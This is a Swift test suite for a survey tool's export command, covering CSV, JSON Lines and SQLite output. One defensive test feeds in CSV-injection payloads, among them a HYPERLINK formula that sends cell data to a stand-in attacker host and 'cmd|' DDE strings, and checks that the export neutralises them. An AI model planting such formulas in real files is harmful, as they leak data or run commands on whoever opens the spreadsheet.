import Foundation
import Testing

/// `palabre export` with the built binary: CSV per form, JSON Lines and SQLite, checked against counts and values
/// read independently from samples/demo.jsonl.
@Suite struct ExportTests {
    /// The demo records by form, read straight from the file.
    nonisolated(unsafe) static let demo: [String: [[String: Any]]] = {
        var out: [String: [[String: Any]]] = [:]
        let text = (try? String(contentsOfFile: E2E.demoFile, encoding: .utf8)) ?? ""
        for line in text.split(separator: "\n") {
            guard let obj = try? JSONSerialization.jsonObject(with: Data(line.utf8)) as? [String: Any], let form = obj["form"] as? String else {
                continue
            }
            out[form, default: []].append(obj)
        }
        return out
    }()

    func importedSandbox() throws -> Sandbox {
        let box = try Sandbox()
        let r = try box.palabre("import", E2E.demoFile)
        guard r.status == 0 else { throw HarnessError("import failed: \(r)") }
        return box
    }

    /// Splits CSV text into rows of cells (quotes, doubled quotes, line breaks inside quotes).
    func parseCSV(_ text: String) -> [[String]] {
        var rows: [[String]] = []
        var row: [String] = []
        var cell = ""
        var quoted = false
        var chars = Array(text)
        if chars.first == "\u{FEFF}" { chars.removeFirst() }
        var i = 0
        while i < chars.count {
            let c = chars[i]
            if quoted {
                if c == "\"" {
                    if i + 1 < chars.count, chars[i + 1] == "\"" { cell.append("\""); i += 1 } else { quoted = false }
                } else {
                    cell.append(c)
                }
            } else if c == "\"" {
                quoted = true
            } else if c == "," {
                row.append(cell); cell = ""
            } else if c == "\r\n" || c == "\n" {
                row.append(cell); rows.append(row); row = []; cell = ""
            } else if c != "\r" {
                cell.append(c)
            }
            i += 1
        }
        if !cell.isEmpty || !row.isEmpty { row.append(cell); rows.append(row) }
        return rows
    }

    @Test func csvHasOneFilePerFormWithEveryRecordAndExcelsByteOrderMark() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        let r = try box.palabre("export", "--format", "csv", "--out", box.path("csv"))
        #expect(r.status == 0, "\(r)")
        for (form, records) in Self.demo {
            let data = try Data(contentsOf: URL(fileURLWithPath: box.path("csv/\(form).csv")))
            #expect(Array(data.prefix(3)) == [0xEF, 0xBB, 0xBF], "\(form).csv starts with a UTF-8 byte-order mark")
            let rows = parseCSV(String(decoding: data, as: UTF8.self))
            #expect(rows.count == records.count + 1, "\(form): header plus one row per record")
            let header = rows[0]
            #expect(Array(header.suffix(4)) == ["id", "created", "updated", "device"])
            #expect(Set(rows.dropFirst().map { $0[header.firstIndex(of: "id")!] }) == Set(records.map { $0["id"] as! String }))
        }
    }

    @Test func csvSplitsChoicesAndPositionsIntoTheirOwnColumns() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("csv")).status == 0)
        let rows = parseCSV(try String(contentsOfFile: box.path("csv/session.csv"), encoding: .utf8))
        let header = rows[0]
        #expect(header.prefix(3) == ["title", "date", "region"], "form order")
        let byID = Dictionary(uniqueKeysWithValues: Self.demo["session"]!.map { ($0["id"] as! String, $0["values"] as! [String: Any]) })
        for row in rows.dropFirst() {
            let cell = { (name: String) in row[header.firstIndex(of: name)!] }
            let values = byID[cell("id")]!
            let themes = values["themes"] as? [String] ?? []
            #expect(cell("themes") == themes.joined(separator: " "))
            for choice in ["land", "water", "pasture", "security"] {
                #expect(cell("themes/\(choice)") == (themes.isEmpty ? "" : (themes.contains(choice) ? "1" : "0")), "themes/\(choice)")
            }
            if let location = values["location"] as? [Double] {
                #expect(Double(cell("location_latitude")) == location[0])
                #expect(Double(cell("location_longitude")) == location[1])
            }
            #expect(cell("region") == values["region"] as? String)
        }
    }

    /// OWASP "CSV injection": a cell a spreadsheet would run as a formula gets a leading `'`; numbers and phone numbers,
    /// which cannot be formulas, stay as they are.
    @Test func cellsThatSpreadsheetsWouldRunAsFormulasAreNeutralisedButNumbersAndPhonesAreNot() throws {
        let box = try Sandbox()
        defer { box.remove() }
        let formula = #"=HYPERLINK("http://evil.example/?"&A1,"clic")"#
        let session = try box.add(
            "session",
            [
                "title": formula, "date": "2026-09-08", "region": "gao", "locality": "@SUM(1+1)*cmd|' /C calc'!A0",
                "format": "intergenerational", "summary": "+cmd|' /C calc'!A0", "agreements": "-2+3",
                "tensions": "-12,5",
            ])
        _ = try box.add(
            "participant",
            [
                "session": session, "consent": "yes", "name": "Hawa Maïga", "phone": "+223 70 00 00 00",
                "sex": "female", "age_band": "18_24", "role": "youth",
            ])
        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("csv")).status == 0)
        let sessions = parseCSV(try String(contentsOfFile: box.path("csv/session.csv"), encoding: .utf8))
        let cell = { (name: String) in sessions[1][sessions[0].firstIndex(of: name)!] }
        #expect(cell("title") == "'" + formula)
        #expect(cell("locality") == "'@SUM(1+1)*cmd|' /C calc'!A0")
        #expect(cell("summary") == "'+cmd|' /C calc'!A0")
        #expect(cell("agreements") == "'-2+3", "a sign followed by an operator is a formula")
        #expect(cell("tensions") == "-12,5", "a plain number is left alone")
        let participants = parseCSV(try String(contentsOfFile: box.path("csv/participant.csv"), encoding: .utf8))
        #expect(participants[1][participants[0].firstIndex(of: "phone")!] == "+223 70 00 00 00", "a phone number is left alone")
        // JSON Lines is data, not a spreadsheet: the values travel as they are.
        #expect(try box.palabre("export", "--format", "jsonl", "--out", box.path("all.jsonl")).status == 0)
        let lines = try String(contentsOfFile: box.path("all.jsonl"), encoding: .utf8)
        #expect(lines.contains(#""title":"=HYPERLINK(\"http://evil.example/?\"&A1,\"clic\")""#), "\(lines)")
    }

    @Test func labelsReplaceCodesInTheChosenLanguageWithAccentsIntact() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("fr"), "--labels", "fr").status == 0)
        let text = try String(contentsOfFile: box.path("fr/session.csv"), encoding: .utf8)
        #expect(text.contains(",Gao,"))
        #expect(text.contains("Tombouctou"))
        #expect(!text.contains(",gao,"))
    }

    @Test func jsonLinesHoldEveryRecordInTheListShape() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        #expect(try box.palabre("export", "--format", "jsonl", "--out", box.path("all.jsonl")).status == 0)
        let lines = try String(contentsOfFile: box.path("all.jsonl"), encoding: .utf8).split(separator: "\n")
        #expect(lines.count == Self.demo.values.map(\.count).reduce(0, +))
        let first = try JSONSerialization.jsonObject(with: Data(lines[0].utf8)) as! [String: Any]
        #expect(first["id"] is String && first["form"] is String && first["values"] is [String: Any])
    }

    @Test func sqliteHasTypedTablesAndJoinViews() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        #expect(try box.palabre("export", "--format", "sqlite", "--out", box.path("x.sqlite")).status == 0)
        let sqlite = try E2E.tool("sqlite3")
        func query(_ sql: String) throws -> String {
            try E2E.run(sqlite, [box.path("x.sqlite"), sql], in: box.dir).stdout.trimmingCharacters(in: .whitespacesAndNewlines)
        }
        #expect(try query("SELECT count(*) FROM participant") == String(Self.demo["participant"]!.count))
        #expect(try query("SELECT typeof(beneficiaries) FROM initiative WHERE beneficiaries IS NOT NULL LIMIT 1") == "integer")
        #expect(try query("SELECT typeof(estimated_cost) FROM initiative WHERE estimated_cost IS NOT NULL LIMIT 1") == "real")
        // Every participant joins its session through the view, as counted from the file.
        let sessions = Dictionary(
            uniqueKeysWithValues: Self.demo["session"]!.map { ($0["id"] as! String, ($0["values"] as! [String: Any])["region"] as! String) })
        let inGao = Self.demo["participant"]!.filter { sessions[($0["values"] as! [String: Any])["session"] as! String] == "gao" }.count
        #expect(try query("SELECT count(*) FROM participant_session WHERE session_region = 'gao'") == String(inGao))
    }

    @Test func deletedRecordsAreLeftOutUnlessAsked() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        let id = Self.demo["followup"]![0]["id"] as! String
        #expect(try box.palabre("delete", id).status == 0)
        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("a"), "--form", "followup").status == 0)
        let rows = parseCSV(try String(contentsOfFile: box.path("a/followup.csv"), encoding: .utf8))
        #expect(rows.count == Self.demo["followup"]!.count)
        #expect(!FileManager.default.fileExists(atPath: box.path("a/session.csv")), "--form limits the files")
        #expect(try box.palabre("export", "--format", "csv", "--out", box.path("b"), "--form", "followup", "--include-deleted").status == 0)
        let all = parseCSV(try String(contentsOfFile: box.path("b/followup.csv"), encoding: .utf8))
        #expect(all.count == Self.demo["followup"]!.count + 1)
        let deletedColumn = all[0].firstIndex(of: "deleted")!
        #expect(all.dropFirst().filter { $0[deletedColumn] == "1" }.map { $0[all[0].firstIndex(of: "id")!] } == [id])
    }

    @Test func badExportOptionsAreRefusedWithTheirValue() throws {
        let box = try importedSandbox()
        defer { box.remove() }
        let format = try box.palabre("export", "--format", "xlsx", "--out", box.path("x"))
        #expect(format.status == 64 && format.stderr.contains("'xlsx'") && format.stderr.contains("'csv', 'jsonl' or 'sqlite'"), "\(format)")
        let form = try box.palabre("export", "--format", "csv", "--out", box.path("x"), "--form", "meeting")
        #expect(form.status == 65 && form.stderr.contains("meeting"), "\(form)")
        let since = try box.palabre("export", "--format", "csv", "--out", box.path("x"), "--since", "yesterday")
        #expect(since.status == 65 && since.stderr.contains("yesterday"), "\(since)")
        let future = try box.palabre("export", "--format", "jsonl", "--out", box.path("f.jsonl"), "--since", "2099-01-01")
        #expect(future.status == 0)
        #expect(try String(contentsOfFile: box.path("f.jsonl"), encoding: .utf8).isEmpty)
    }
}
